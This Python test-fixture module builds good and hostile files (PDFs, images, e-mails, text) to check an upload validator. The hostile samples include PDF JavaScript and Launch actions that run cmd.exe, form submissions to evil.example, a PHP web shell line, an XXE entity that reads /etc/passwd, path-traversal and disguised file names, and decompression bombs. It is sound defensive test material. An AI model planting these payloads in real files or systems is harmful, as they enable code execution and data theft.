"""PDF, pictures, e-mails, texts and other kinds, good and hostile, as they come with a name."""

import base64
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from itertools import product

from pikepdf import Encryption, Pdf

from files.inspection import LARGEST
from tests.hostile import packages
from tests.samples import (
    EICAR,
    a_jpeg,
    a_mail,
    a_pdf,
    a_photo,
    a_png,
    chunk,
    packed_away,
    segment,
)

Good = Iterator[tuple[str, str, bytes]]
"""What it is, the name it comes with, and its bytes."""
Hostile = Iterator[tuple[str, str, bytes, str]]
"""The same, and words of the sentence."""


def locked(**passwords: str) -> bytes:
    with Pdf.open(BytesIO(a_pdf())) as pdf:
        pdf.save(kept := BytesIO(), encryption=Encryption(**passwords), static_id=True)
    return kept.getvalue()


def acting(action: bytes) -> bytes:
    return a_pdf(root="/OpenAction 6 0 R", objects=[action])


ACTIONS = {
    "javascript": rb"<</S/JavaScript/JS(app.alert\(1\))>>",
    "javascript by hex": b"<</S/J#61vaScript/J#53(x)>>",
    "javascript in a stream": b"<</S/JavaScript/JS 7 0 R>>",
    "only the script": b"<</JS(x)>>",
    "launch": b"<</S/Launch/F(calc.exe)>>",
    "launch on Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "launch by hex": b"<</S/#4caunch/F(a)>>",
    "rendition": b"<</S/Rendition/JS(x)/OP 0>>",
    "rich media": b"<</S/RichMediaExecute>>",
    "another file": rb"<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>",
    "an enclosed file": b"<</S/GoToE/D[0/Fit]>>",
    "sending a form": b"<</S/SubmitForm/F(https://evil.example)>>",
    "taking in data": b"<</S/ImportData/F(a.fdf)>>",
    "after another": b"<</S/GoTo/D[0/Fit]/Next<</S/JavaScript/JS(x)>>>>",
    "third after another": b"<</S/Named/N/Next/Next[<</S/GoTo/Next[<</S/Launch/F(a)>>]>>]>>",
    "thread elsewhere": rb"<</S/Thread/F(\\\\evil.example\\a.pdf)/D 0>>",
    "script address": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "data address": b"<</S/URI/URI(data:text/html,x)>>",
    "file by address": b"<</S/URI/URI()/F<</FS/URL/F(http://evil.example/a)>>>>",
}  # fmt: skip
PROGRAM, INSIDE, OUTSIDE = "zit een programma", "zit een ander bestand", "van buiten"
ANY_ACTION = f"{PROGRAM}|{INSIDE}|{OUTSIDE}"
PLACES = {
    "opening": "/OpenAction 6 0 R", "closing": "/AA<</WC 6 0 R>>", "saving": "/AA<</WS 6 0 R>>",
    "names": "/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", "nowhere": "",
    "a bookmark": "/Outlines<</First<</Title(a)/A 6 0 R>>>>",
    "a form": "/AcroForm<</Fields[<</T(a)/AA<</K 6 0 R>>>>]>>",
}  # fmt: skip


def pdfs() -> Hostile:
    for (what, action), (where, root) in product(ACTIONS.items(), PLACES.items()):
        data = a_pdf(root=root, objects=[action, b"<</Length 0>>stream\n\nendstream"])
        yield f"pdf: {what} at {where}", "a.pdf", data, ANY_ACTION
    for what in ("javascript", "launch", "another file", "only the script"):
        data = packed_away(ACTIONS[what].replace(rb"\(1\)", b""), 0)
        yield f"pdf: {what} packed away", "a.pdf", data, ANY_ACTION
    for what, root in {
        "form of XFA": "/AcroForm<</XFA[]/Fields[]>>",
        "form of XFA by hex": "/AcroForm<</X#46A()>>",
        "files": "/Names<</EmbeddedFiles<</Names[]>>>>",
    }.items():  # fmt: skip
        yield f"pdf: {what}", "a.pdf", a_pdf(root=root), ANY_ACTION
    for what, one in {
        "a file": b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>",
        "a film": b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>",
        "a stream elsewhere": b"<</Length 0/F(http://evil.example)>>stream\n\nendstream",
        "a packed stream elsewhere": b"<</Length 0/FFilter/X/F(a)>>stream\n\nendstream",
    }.items():
        yield f"pdf: {what} in it", "a.pdf", a_pdf(objects=[one]), ANY_ACTION
    yield "pdf: locked", "a.pdf", locked(user="geheim", owner="x"), "wachtwoord"
    good = a_pdf()
    for cut in range(1, 20):
        yield (
            f"pdf: cut at {cut}/20",
            "a.pdf",
            good[: len(good) * cut // 20],
            "beschadigd|past niet",
        )
    for what, data in {
        "only a head": b"%PDF-1.7", "head and end": b"%PDF-1.7\n%%EOF", "no page": good.replace(
            b"[3 0 R]/Count 1", b"[]/Count 0     "), "no root": good.replace(b"/Root", b"/Toor"),
        "a page that is its own parent": good.replace(b"[3 0 R]", b"[2 0 R]"),
        "archive behind it": good + packages.document(), "program behind it": good + b"MZ" * 5000,
        "page before it": b"<html><script>alert(1)</script>" + good, "zip end": good + packages.END,
        "pages of zeros": b"%PDF-1.7\n" + bytes(5000),
        "in capitals": good.replace(b"%PDF", b"%pdf"),
        "picture before it": a_png() + good, "blanks before it": b"\n" * 9 + good,
    }.items():  # fmt: skip
        yield f"pdf: {what}", "a.pdf", data, "beschadigd|past niet"


def pictures() -> Hostile:
    png, jpeg = a_png(), a_jpeg()
    for cut in range(1, 16):
        yield f"png: cut at {cut}/16", "a.png", png[: len(png) * cut // 16], "beschadigd|past niet"
        yield (
            f"jpg: cut at {cut}/16",
            "a.jpg",
            jpeg[: len(jpeg) * cut // 16],
            "beschadigd|past niet",
        )
    for width, height in ((2**15, 2**15), (65535, 65535), (2**31 - 1, 1), (100_001, 1000)):
        yield f"png: {width} by {height}", "a.png", a_png(width=width, height=height), "te groot"
    yield "jpg: 65535 by 65535", "a.jpg", a_jpeg(width=65535, height=65535), "te groot"
    for width, height in ((0, 1), (1, 0), (0, 0)):
        yield f"png: {width} by {height}", "a.png", a_png(width=width, height=height), "beschadigd"
        yield f"jpg: {width} by {height}", "a.jpg", a_jpeg(width=width, height=height), "beschadigd"
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    gif, html = b"GIF89a=1;alert(1)", b"<!doctype html><script>alert(1)</script>"
    bodies = {
        "svg": svg, "html": html, "gif with script": gif, "text": b"hallo", "zip":
        packages.document(), "pdf": a_pdf(), "bmp": b"BM" + bytes(60), "tiff": b"II*\0" + bytes(60),
        "webp": b"RIFF\0\0\0\0WEBPVP8 ", "program": b"MZ" + bytes(60), "zeros": bytes(60),
        "eps": b"%!PS-Adobe", "php": b"<?php system($_GET[1]); ?>", "script": b"#!/bin/sh\n",
    }  # fmt: skip
    for (what, data), end in product(bodies.items(), ("png", "jpg", "jpeg")):
        yield f"{end}: {what}", f"a.{end}", data, "past niet"
    yield "png: that is a jpg", "a.png", jpeg, "past niet"
    yield "jpg: that is a png", "a.jpg", png, "past niet"
    yield "png: wrong sum", "a.png", png.replace(b"IDAT", b"IDAX"), "beschadigd"
    yield "png: no head", "a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IEND"), "beschadigd"
    yield "png: no image", "a.png", png[:33] + chunk(b"IEND"), "beschadigd"
    yield "png: 30,000 pieces", "a.png", a_png(chunk(b"tEXt") * 30_000), "te groot"
    huge = png[:8] + struct.pack(">I", 2**31) + png[12:]
    yield "png: a piece of 2 GB", "a.png", huge, "beschadigd"
    yield "jpg: 200 scans", "a.jpg", a_jpeg(
        *[segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x3f"] * 200), "te groot"  # fmt: skip
    yield "jpg: 30,000 pieces", "a.jpg", a_jpeg(segment(0xE1, b"") * 30_000), "te groot"
    yield "jpg: begins and ends", "a.jpg", b"\xff\xd8\xff\xd9", "beschadigd"


def attached(name: str, data: bytes, kind: str = "application/octet-stream") -> bytes:
    """A message with one file."""
    return (
        b"From: a@b.nl\nTo: c@d.nl\nSubject: x\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed; boundary=grens\n\n--grens\nContent-Type: text/plain\n\nx\n"
        b"--grens\nContent-Type: " + kind.encode() + b"\nContent-Transfer-Encoding: base64\n"
        b'Content-Disposition: attachment; filename="' + name.encode() + b'"\n\n'
        + base64.encodebytes(data) + b"--grens--\n"
    )  # fmt: skip


def mails() -> Hostile:
    for what, name, data in (
        ("a program", "a.exe", b"MZ"), ("a script", "a.js", b"x"), ("a page", "a.html", b"<html>"),
        ("an archive", "a.zip", packages.document()), ("a macro", "a.docm", packages.document()),
        ("a picture that is svg", "a.svg", b"<svg/>"), ("a false pdf", "a.pdf", b"<html>"),
        ("a pdf with a script", "a.pdf", acting(ACTIONS["javascript"])),
        ("a Word file with a link", "a.docx", packages.with_relation(
            "image", packages.ELSEWHERE, external=True)),
        ("nothing", "a.pdf", b""), ("a disk", "a.iso", b"x"), ("a link", "a.lnk", b"L\0\0\0"),
        ("Outlook", "winmail.dat", b"\x78\x9f\x3e\x22"), ("no ending", "bestand", b"x"),
        ("a name that turns", "a\u202efdp.exe", b"MZ"), ("a path", "../../a.exe", b"MZ"),
    ):  # fmt: skip
        yield f"eml: with {what}", "a.eml", attached(name, data), "In de bijlage|bijlage"
    branches = "".join(
        f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(40)
    )
    tangled = a_mail(kind="multipart/mixed; boundary=b0", body=branches)
    yield "eml: forty deep", "a.eml", tangled, "te groot"
    yield "eml: 400,000 lines", "a.eml", a_mail(body="\n" * 400_000), "te groot"
    for what, data in {
        "no heads": b"Ik klaag.", "a page": b"<html><script>alert(1)</script>", "binary": bytes(99),
        "an archive": packages.document(), "one head": b"Subject: x\n\ny", "a pdf": a_pdf(),
        "a program": b"MZ\x90\0\3", "a mailbox": b"Van: a\nAan: b\n\nx",
    }.items():  # fmt: skip
        yield f"eml: {what}", "a.eml", data, "past niet"


KINDS = (
    "exe", "com", "bat", "cmd", "ps1", "vbs", "js", "hta", "scr", "msi", "lnk", "url", "jar",
    "py", "sh", "php", "jsp", "asp", "html", "htm", "xhtml", "svg", "xml", "xsl", "swf", "doc",
    "docm", "dot", "dotm", "dotx", "rtf", "odt", "xls", "xlsx", "xlsm", "ppt", "pptx", "zip",
    "7z", "rar", "tar", "gz", "iso", "img", "vhd", "msg", "mbox", "pst", "heic", "webp", "gif",
    "bmp", "tif", "tiff", "ico", "mp3", "mp4", "avi", "mov", "csv", "json", "pages", "one",
    "chm", "reg", "inf", "dll", "wsf", "application", "pdf.exe", "docx.js", "pdf ", "",
)  # fmt: skip


def kinds() -> Hostile:
    for end in KINDS:
        if end.strip() == "pdf":
            continue
        name = f"brief.{end}" if end else "brief"
        yield f"kind: {name}", name, a_pdf(), "Dit soort bestand"
    for end in ("pdf", "docx", "png", "jpg", "txt", "eml"):
        yield f"{end}: no byte in it", f"a.{end}", b"", "leeg"
        yield f"{end}: 10 MB and one byte", f"a.{end}", b"x" * (LARGEST + 1), "groter dan"
    for what, data in {
        "a program": b"MZ\x90\0", "a pdf": a_pdf(), "an archive": packages.document(),
        "rtf": rb"{\rtf1 x}", "a picture": b"GIF89a", "eps": b"%!PS", "binary": bytes(range(256)),
        "orders to a terminal": b"\x1b]0;x\x07", "utf-16": "café".encode("utf-16"), "nul": b"a\0b",
        "a bell": b"a\x07", "backspaces": b"rm\b\b  ", "png": a_png(), "jpg": a_jpeg(),
    }.items():  # fmt: skip
        yield f"txt: {what}", "a.txt", data, "past niet"


def bombs() -> Hostile:
    yield "pdf: 100 MB of blanks", "a.pdf", packed_away(ACTIONS["launch"], 100_000_000), "te groot"
    stream = zlib.compress(bytes(20_000_000), 1)
    profile = chunk(b"iCCP", b"a\0\0" + stream)
    yield "png: 20 MB of colour, cut", "a.png", a_png(profile)[:-9], "beschadigd"


def programs() -> Hostile:
    for what, action in ACTIONS.items():
        yield f"pdf in a mail: {what}", "a.eml", attached("a.pdf", acting(action)), "bijlage"


HOSTILE = (pdfs, pictures, mails, kinds, bombs, programs)


def good() -> Good:
    yield "pdf", "brief.pdf", a_pdf()
    yield "pdf in capitals", "BRIEF.PDF", a_pdf()
    yield "pdf with a remark behind it", "a.pdf", a_pdf() + b"\n\0\0"
    yield "pdf that may not be changed", "a.pdf", locked(owner="x")
    yield "pdf that speaks of scripts", "a.pdf", a_pdf("/S /JavaScript /JS /Launch")
    for link in ("https://www.ssr.nl/", "http://a.nl/?q=javascript", "mailto:a@b.nl", "www.ssr.nl",
                 "tel:0031", "file:///C:/Documenten/a.pdf"):  # fmt: skip
        yield f"pdf with a link to {link}", "a.pdf", acting(b"<</S/URI/URI(%s)>>" % link.encode())
    for words in (b"<</S/GoTo/D[3 0 R/Fit]>>", b"<</S/Named/N/NextPage>>", b"<</S/Hide/T(a)>>"):
        yield f"pdf that goes {words.decode()}", "a.pdf", acting(words)
    yield "pdf with a form", "a.pdf", a_pdf(root="/AcroForm<</Fields[<</T(Naam)/FT/Tx>>]>>")
    for name, data in (("a.png", a_png()), ("a.jpg", a_jpeg()), ("a.jpeg", a_photo())):
        yield f"picture {name}", name, data
    yield "png with other things behind it", "a.png", a_png() + b"<script>alert(1)</script>"
    yield "png with words", "a.png", a_png(chunk(b"tEXt", b"Author\0<script>"))
    yield "photo with a film behind it", "a.jpg", a_jpeg(behind=b"ftypmp42")
    yield "largest photo", "a.jpg", a_jpeg(width=12_000, height=8_000)
    for turned in range(1, 9):
        yield f"photo turned {turned}", "a.jpg", a_photo(turned)
    for what, words in (
        ("markup", "<script>alert(1)</script>"), ("template", "{{7*7}} {% raw %}"),
        ("formula", "=1"),
        ("tabs", "a\tb\r\nc"), ("emoji", "👩‍👩‍👧"), ("arabic", "عربي"), ("eicar", EICAR.decode()),
        ("bom", "\ufeffa"), ("form feed", "a\fb"), ("long", "woord " * 100_000),
        ("mail", "From: a\n\nb"), ("xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
    ):  # fmt: skip
        yield f"text of {what}", "a.txt", words.encode()
    yield "text of 1998", "a.txt", "café".encode("cp1252")
    yield "mail", "a.eml", a_mail()
    for name, data in (("a.pdf", a_pdf()), ("a.docx", packages.document()), ("a.png", a_png()),
                       ("a.txt", b"x"), ("a.eml", a_mail())):  # fmt: skip
        yield f"mail with {name}", "a.eml", attached(name, data)
    for what, more in (
        ("no such coding", {"kind": "text/plain; charset=x-evil"}),
        ("markup", {"kind": "text/html", "body": "<script>alert(1)</script><p>Dag</p>"}),
        ("a broken head", {"headers": "Subject: =?utf-8?q?=ED=A0=80?=\n"}),
        ("two senders", {"headers": "From: kwaad@elders.nl\n"}),
        ("a head of 50,000", {"headers": f"X-A: {'a' * 50_000}\n"}),
        ("an impossible day", {"headers": "Date: Mon, 99 Foo 99999 99:99\n"}),
        ("nul", {"body": "a\0b"}), ("10,000 heads", {"headers": "X-A: b\n" * 10_000}),
    ):  # fmt: skip
        yield f"mail with {what}", "a.eml", a_mail(**more)
